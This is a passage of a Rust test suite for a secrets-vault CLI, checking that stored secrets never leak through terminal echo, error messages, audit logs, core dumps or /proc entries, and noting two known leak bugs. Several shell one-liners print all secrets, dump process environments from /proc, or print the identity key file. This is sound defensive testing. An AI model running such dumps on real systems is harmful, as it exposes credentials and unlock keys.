    let unstored = unstored_canaries();
    let val = |name: &str| -> Vec<u8> {
        stored
            .iter()
            .chain(&unstored)
            .find(|c| c.name == name)
            .expect("canary")
            .value
            .clone()
    };
    p.vault("init", &["init"], b"", 0);
    for name in ["C8", "C200", "CMULTI", "CMETA", "CBIN"] {
        p.vault(name, &["set", name], &Probe::with_value(&val(name)), 0);
    }
    let encoded = p.input("encoded.txt", &encoded_text(&stored[..5]));

    let session = |label: &str, args: &[&str]| -> PtySession {
        let mut c = p.v.std_cmd();
        c.env("TMPDIR", &p.tmpdir)
            .env("RUST_BACKTRACE", "full")
            .env("RUST_LOG", "trace")
            .env("TERM", "xterm")
            .args(args);
        PtySession::spawn(c, 30, 100).unwrap_or_else(|e| panic!("{label}: spawn: {e}"))
    };
    let finish = |label: &str, mut s: PtySession, code: i32| {
        let status = s.wait(PTY_WAIT).unwrap_or_else(|e| panic!("{label}: {e}"));
        p.hay.add(format!("{label}: terminal"), s.output());
        assert_eq!(
            status.code(),
            Some(code),
            "{label}: {status:?}; terminal: {:?}",
            String::from_utf8_lossy(s.output())
        );
        assert!(
            same_termios(&s.termios(), s.initial_termios()),
            "{label}: terminal settings not restored"
        );
    };

    // The hidden prompt, typed twice.
    let typed = b"tty-typed-canary-value-K9p3Lq".to_vec();
    let mut s = session("set (prompt)", &["set", "CTTY"]);
    s.expect(b"value for CTTY: ", PTY_WAIT)
        .expect("first prompt");
    wait_echo_off(&s);
    s.write(&typed);
    s.write(b"\r");
    s.expect(b"again, to confirm: ", PTY_WAIT)
        .expect("second prompt");
    wait_echo_off(&s);
    s.write(&typed);
    s.write(b"\r");
    finish("set (prompt)", s, 0);
    assert_eq!(p.v.stored_value("CTTY").as_deref(), Some(&typed[..]));

    // Two different entries: refused, neither echoed nor stored.
    let mut s = session("set (mismatch)", &["set", "CTTY2"]);
    s.expect(b"value for CTTY2: ", PTY_WAIT)
        .expect("first prompt");
    wait_echo_off(&s);
    s.write(&val("tty mismatch 1"));
    s.write(b"\r");
    s.expect(b"again, to confirm: ", PTY_WAIT)
        .expect("second prompt");
    wait_echo_off(&s);
    s.write(&val("tty mismatch 2"));
    s.write(b"\r");
    finish("set (mismatch)", s, DATA_ERR);
    assert_eq!(p.v.stored_value("CTTY2"), None);

    // A child printing every canary, raw and encoded, on vault's PTY.
    let s = session(
        "run on a terminal",
        &[
            "run",
            "--",
            "sh",
            "-c",
            r#"for n in C8 C200 CMULTI CMETA CBIN CTTY; do eval "v=\$$n"; printf '%s=<%s>\n' "$n" "$v"; printf '%s' "$v" | base64 -w0; echo; done; cat "$0""#,
            ps(&encoded),
        ],
    );
    finish("run on a terminal", s, 0);

    // Typed input echoed by the child's PTY, then printed by the child.
    let mut s = session(
        "run reading the terminal",
        &[
            "run",
            "--",
            "sh",
            "-c",
            r#"read -r x; printf 'got <%s>\n' "$x""#,
        ],
    );
    std::thread::sleep(Duration::from_millis(300));
    s.write(&val("C200"));
    s.write(b"\r");
    s.expect(b"got <[REDACTED:C200]>", PTY_WAIT)
        .expect("the child's line");
    finish("run reading the terminal", s, 0);

    // A crash, exec failures, refusals, listings.
    let s = session(
        "run, child killed by SIGSEGV",
        &[
            "run",
            "--",
            "sh",
            "-c",
            r#"printf '%s' "$C200"; kill -SEGV $$"#,
        ],
    );
    finish("run, child killed by SIGSEGV", s, 139);
    let s = session(
        "run, command not found",
        &["run", "--", "/nonexistent/prog", "{{secure.C200}}"],
    );
    finish("run, command not found", s, NOT_FOUND);
    let argv_value = String::from_utf8(val("argv value")).expect("UTF-8");
    let s = session(
        "set with the value in argv",
        &["set", "NEW_ONE", &argv_value],
    );
    finish("set with the value in argv", s, USAGE);
    let s = session("list", &["list"]);
    finish("list", s, 0);
    let s = session("audit", &["audit"]);
    finish("audit", s, 0);

    p.hay.add_tree(&p.v.home);
    p.hay.add_tree(&p.tmpdir);
    let mut canaries = all_canaries(&stored[..5], &unstored);
    canaries.push(("CTTY", &typed));
    canaries.push(("identity", p.v.fixture.identity.as_bytes()));
    assert_zero_hits(&p.hay, &canaries);
}

/// Waits until the terminal no longer echoes (the prompt has switched echo off), so typing
/// cannot show up on the screen by way of echo. See `set_prompt_never_echoes_a_fast_typist`
/// for what happens without this wait.
fn wait_echo_off(s: &PtySession) {
    let deadline = Instant::now() + PTY_WAIT;
    while s
        .termios()
        .local_modes
        .contains(rustix::termios::LocalModes::ECHO)
    {
        assert!(Instant::now() < deadline, "echo never switched off");
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// (1) A person (or an agent driving a real terminal) who types the value as soon as the
/// prompt appears must not see it echoed. vault prints `value for NAME: ` and only then
/// switches echo off (rpassword's `prompt_password`: prompt first, then `tcsetattr(TCSANOW)`),
/// so keys typed in between are echoed to the screen in clear.
///
/// Correct behaviour: switch echo off (with TCSAFLUSH, discarding type-ahead) before the
/// prompt is shown, as OpenSSH's readpassphrase does.
#[test]
fn set_prompt_never_echoes_a_fast_typist() {
    let p = Probe::new();
    p.vault("init", &["init"], b"", 0);
    let typed = b"fast-typist-canary-value-M2n8Rt".to_vec();
    let mut c = p.v.std_cmd();
    c.args(["set", "FAST"]);
    let mut s = PtySession::spawn(c, 30, 100).expect("spawn");
    for prompt in [&b"value for FAST: "[..], b"again, to confirm: "] {
        s.expect(prompt, PTY_WAIT).expect("prompt");
        s.write(&typed);
        s.write(b"\r");
    }
    let status = s.wait(PTY_WAIT).expect("vault set exits");
    assert_eq!(status.code(), Some(0));
    p.hay.add("set (fast typist): terminal", s.output());
    assert_zero_hits(&p.hay, &[("FAST", &typed)]);
}

/// (1) A stored value typed literally into the command word — the whole command line quoted
/// as one argument (`vault run -- "curl -H 'Bearer VALUE' …"`, a common slip for people and
/// agents), or a path that contains it — must not come back in the "command not found"
/// message on stderr, nor in the audit log, whose `argv` field already shows it redacted.
///
/// Today src/cmd/run.rs builds `Spawn::display` from the raw `args.command[0]`
/// (`inject::display`), and that string is the error message (stderr) and the audit entry's
/// `note`: `vault: error: echo VALUE: command not found`. Correct: take the display from the
/// redacted argv (`shown_argv[0]`), as the audit `argv` does.
#[test]
fn a_value_typed_into_the_command_word_is_never_echoed() {
    let p = Probe::new();
    let c200 = String::from_utf8(value_200()).expect("UTF-8");
    p.vault("init", &["init"], b"", 0);
    p.vault(
        "set",
        &["set", "C200"],
        &Probe::with_value(c200.as_bytes()),
        0,
    );
    for (label, word) in [
        ("the whole command as one word", format!("echo {c200}")),
        ("the value as the command", c200.clone()),
        ("a path holding the value", format!("./{c200}")),
    ] {
        p.vault(label, &["run", "--", &word], b"", NOT_FOUND);
    }
    p.hay.add_tree(&p.v.home);
    assert_zero_hits(&p.hay, &[("C200", c200.as_bytes())]);
}

/// Splits a `/proc/PID/environ` (or cmdline) block at NULs.
fn nul_split(block: &[u8]) -> Vec<&[u8]> {
    block.split(|&b| b == 0).filter(|e| !e.is_empty()).collect()
}

/// (1) The child's environment holds no unlock material, whichever route unlocked the
/// store: no VAULT_IDENTITY, no VAULT_IDENTITY_FILE, no identity text. Its own secrets are
/// there (that is the point of `run`), and a placeholder's value is in its argv (so in its
/// /proc/PID/cmdline: documented in SECURITY.md).
#[test]
fn child_environment_holds_no_unlock_material() {
    let p = Probe::new();
    let c200 = value_200();
    p.vault("init", &["init"], b"", 0);
    p.vault("set", &["set", "C200"], &Probe::with_value(&c200), 0);
    let env_out = p.inputs.join("child-environ");
    let argv_out = p.inputs.join("child-cmdline");
    let script = r#"cat /proc/$$/environ > "$0"; cat /proc/$$/cmdline > "$1"; cat "$2""#;
    for route in ["VAULT_IDENTITY", "VAULT_IDENTITY_FILE"] {
        let mut c = if route == "VAULT_IDENTITY" {
            p.cmd()
        } else {
            let mut c = p.headless(p.v.std_cmd_no_identity());
            c.env("VAULT_IDENTITY_FILE", &p.v.identity_file);
            c
        };
        // The child also prints the identity file: it comes out redacted.
        c.args([
            "run",
            "--",
            "sh",
            "-c",
            script,
            ps(&env_out),
            ps(&argv_out),
            ps(&p.v.identity_file),
            "{{secure.C200}}",
        ]);
        let out = p.go(&format!("run via {route}"), c, b"", 0);
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("[REDACTED:VAULT_IDENTITY]"),
            "{route}: the identity file is redacted: {:?}",
            String::from_utf8_lossy(&out.stdout)
        );
        let environ = fs::read(&env_out).expect("child environ");
        for var in nul_split(&environ) {
            let key = var.split(|&b| b == b'=').next().unwrap_or_default();
            assert!(
                key != b"VAULT_IDENTITY" && key != b"VAULT_IDENTITY_FILE",
                "{route}: the child has {}",
                String::from_utf8_lossy(key)
            );
        }
        assert!(
            !contains(&environ, p.v.fixture.identity.as_bytes()),
            "{route}: identity text in the child's environment"
        );
        assert!(
            nul_split(&environ).contains(&[b"C200=".as_slice(), &c200].concat().as_slice()),
            "{route}: the child gets its secret"
        );
        let cmdline = fs::read(&argv_out).expect("child cmdline");
        assert!(
            nul_split(&cmdline).contains(&c200.as_slice()),
            "{route}: a placeholder's value is in the child's argv (documented)"
        );
        assert!(!contains(&cmdline, p.v.fixture.identity.as_bytes()));
    }
    p.hay.add_tree(&p.v.home);
    p.hay.add_tree(&p.tmpdir);
    assert_zero_hits(
        &p.hay,
        &[
            ("C200", &c200),
            ("identity", p.v.fixture.identity.as_bytes()),
        ],
    );
}

fn wait_for_file(path: &Path) -> Vec<u8> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        if let Ok(bytes) = fs::read(path)
            && bytes.ends_with(b"\n")
        {
            return bytes;
        }
        assert!(
            Instant::now() < deadline,
            "{} never appeared",
            path.display()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// (1) vault's own /proc entries while a run is in progress: its cmdline keeps the
/// `{{secure.X}}` template, never the value (the child's cmdline has the value); its soft
/// core limit is 0; its environ still holds VAULT_IDENTITY when that was given in the
/// environment (the kernel keeps the initial block; documented), which is why it is not
/// dumpable (checked as another uid in `vault_is_not_dumpable`).
#[test]
fn vault_proc_entries_hold_no_value() {
    let p = Probe::new();
    let c200 = value_200();
    p.vault("init", &["init"], b"", 0);
    p.vault("set", &["set", "C200"], &Probe::with_value(&c200), 0);
    let pidfile = p.inputs.join("child.pid");
    let mut c = p.cmd();
    c.args([
        "run",
        "--",
        "sh",
        "-c",
        r#"echo $$ > "$0"; sleep 30"#,
        ps(&pidfile),
        "{{secure.C200}}",
    ])
    .stdout(Stdio::piped())
    .stderr(Stdio::piped());
    let mut vault = c.spawn().expect("spawn vault run");
    let child: u32 = String::from_utf8(wait_for_file(&pidfile))
        .expect("pid")
        .trim()
        .parse()
        .expect("pid");
    let vpid = vault.id();
    let read = |pid: u32, what: &str| fs::read(format!("/proc/{pid}/{what}")).expect("read /proc");

    let cmdline = read(vpid, "cmdline");
    assert!(
        contains(&cmdline, b"{{secure.C200}}"),
        "vault's cmdline keeps the template"
    );
    assert!(
        !contains(&cmdline, &c200),
        "the value is in vault's cmdline"
    );
    let child_cmdline = read(child, "cmdline");
    assert!(
        contains(&child_cmdline, &c200),
        "the child's argv holds the value (documented)"
    );
    let limits = String::from_utf8(read(vpid, "limits")).expect("limits");
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .expect("core limit line");
    assert_eq!(
        core.split_whitespace().nth(4),
        Some("0"),
        "soft RLIMIT_CORE is 0: {core}"
    );
    let environ = read(vpid, "environ");
    let has_identity = contains(&environ, p.v.fixture.identity.as_bytes());
    eprintln!(
        "/proc/<vault>/environ holds VAULT_IDENTITY: {has_identity} (the kernel keeps the initial block; readable by root only, see vault_is_not_dumpable)"
    );
    assert!(!contains(&environ, &c200), "a value in vault's environ");
    let child_environ = read(child, "environ");
    assert!(!contains(&child_environ, p.v.fixture.identity.as_bytes()));

    rustix::process::kill_process(
        rustix::process::Pid::from_raw(vpid as i32).expect("pid"),
        rustix::process::Signal::TERM,
    )
    .expect("SIGTERM vault");
    let out = vault_wait(&mut vault);
    assert_eq!(out.status.code(), Some(128 + 15), "{out:?}");
    assert!(
        !Path::new(&format!("/proc/{child}")).exists()
            || fs::read_to_string(format!("/proc/{child}/stat")).is_ok_and(|s| s.contains(") Z ")),
        "the child survived vault"
    );
    p.hay.add("vault stdout", &out.stdout);
    p.hay.add("vault stderr", &out.stderr);
    p.hay.add_tree(&p.v.home);
    assert_zero_hits(&p.hay, &[("C200", &c200)]);
}

fn vault_wait(child: &mut std::process::Child) -> Output {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        if child.try_wait().expect("try_wait").is_some() {
            break;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("vault did not exit");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let mut out = Vec::new();
    let mut err = Vec::new();
    use std::io::Read as _;
    if let Some(mut o) = child.stdout.take() {
        let _ = o.read_to_end(&mut out);
    }
    if let Some(mut e) = child.stderr.take() {
        let _ = e.read_to_end(&mut err);
    }
    Output {
        status: child.wait().expect("wait"),
        stdout: out,
        stderr: err,
    }
}

/// (1) PR_SET_DUMPABLE=0, seen from another process of the same (non-root) user: vault's
/// /proc entries belong to root and its environ cannot be read, while an ordinary process of
/// that user is readable. Needs root (to run both as another uid); skipped otherwise.
#[test]
fn vault_is_not_dumpable() {
    const NOBODY: u32 = 65534;
    if !rustix::process::geteuid().is_root() {
        eprintln!("SKIP vault_is_not_dumpable: needs root to run processes as uid {NOBODY}");
        return;
    }
    let v = Vault::new();
    // The checkout (and so target/) may sit in a directory only its owner can enter (/root, a
    // 0700 mktemp -d): run a copy that uid nobody can execute.
    let exec_dir = tempfile::Builder::new()
        .prefix("vault-dumpable-")
        .tempdir_in("/tmp")
        .expect("temp dir in /tmp");
    crate::support::chmod(exec_dir.path(), 0o755);
    let bin = exec_dir.path().join("vault");
    fs::copy(crate::support::BIN, &bin).expect("copy the binary");
    crate::support::chmod(&bin, 0o755);
    let bin = bin.to_str().expect("UTF-8 temp path").to_owned();
    // `vault import -` reads stdin before anything else: it waits there, hardened.
    let spawn_as_nobody = |program: &str, args: &[&str]| {
        let mut c = std::process::Command::new(program);
        c.args(args)
            .env_clear()
            .env("VAULT_HOME", "/nonexistent/vault-home")
            .env("VAULT_IDENTITY", &v.fixture.identity)
            .current_dir("/")
            .uid(NOBODY)
            .gid(NOBODY)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        c.spawn().expect("spawn as nobody")
    };
    let mut vault = spawn_as_nobody(&bin, &["import", "-"]);
    let mut control = spawn_as_nobody("/bin/cat", &[]);
    // Wait until vault has certainly run harden::process() (it is blocked reading stdin).
    let deadline = Instant::now() + Duration::from_secs(10);
    while !fs::read_to_string(format!("/proc/{}/wchan", vault.id()))
        .is_ok_and(|w| w.contains("read") || w.contains("pipe"))
    {
        if Instant::now() > deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(200));
    let owner = |pid: u32| {
        use std::os::unix::fs::MetadataExt as _;
        fs::metadata(format!("/proc/{pid}/environ"))
            .expect("stat environ")
            .uid()
    };
    let read_as_nobody = |pid: u32| {
        std::process::Command::new("/bin/cat")
            .arg(format!("/proc/{pid}/environ"))
            .current_dir("/")
            .uid(NOBODY)
            .gid(NOBODY)
            .output()
            .expect("run cat as nobody")
    };
    let vault_owner = owner(vault.id());
    let control_owner = owner(control.id());
    let vault_read = read_as_nobody(vault.id());
    let control_read = read_as_nobody(control.id());
    drop(vault.stdin.take());
    drop(control.stdin.take());
    let _ = vault.wait();
    let _ = control.wait();

    assert_eq!(control_owner, NOBODY, "control: an ordinary process");
    assert!(
        control_read.status.success(),
        "control: readable by its user"
    );
    assert_eq!(vault_owner, 0, "vault's /proc entries belong to root");
    assert!(
        !vault_read.status.success()
            && String::from_utf8_lossy(&vault_read.stderr).contains("Permission denied"),
        "vault's environ is readable by its own user: {vault_read:?}"
    );
    assert!(!contains(&vault_read.stdout, v.fixture.identity.as_bytes()));
}
